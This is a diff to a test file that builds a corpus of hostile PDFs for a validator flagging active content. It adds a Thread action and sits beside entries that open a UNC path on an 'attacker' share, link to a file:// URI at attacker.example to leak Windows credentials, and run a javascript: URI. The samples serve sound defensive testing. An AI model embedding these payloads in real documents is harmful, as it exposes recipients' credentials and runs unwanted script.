@@ -92,6 +92,7 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     { name: 'OpenAction opening another PDF (GoToR)', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>') },
     { name: 'ImportData action on a link', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /ImportData /F (data.fdf) >>') },
     { name: 'GoToE into an embedded document', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>') },
+    { name: 'Thread action into another file', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /Thread /F (other.pdf) /D 0 >>') },
     { name: 'link to a file:// URI (leaks credentials on Windows)', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /URI /URI (file://attacker.example/share/x) >>') },
     { name: 'link to a javascript: URI', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /URI /URI (javascript:alert(1)) >>') },
     {
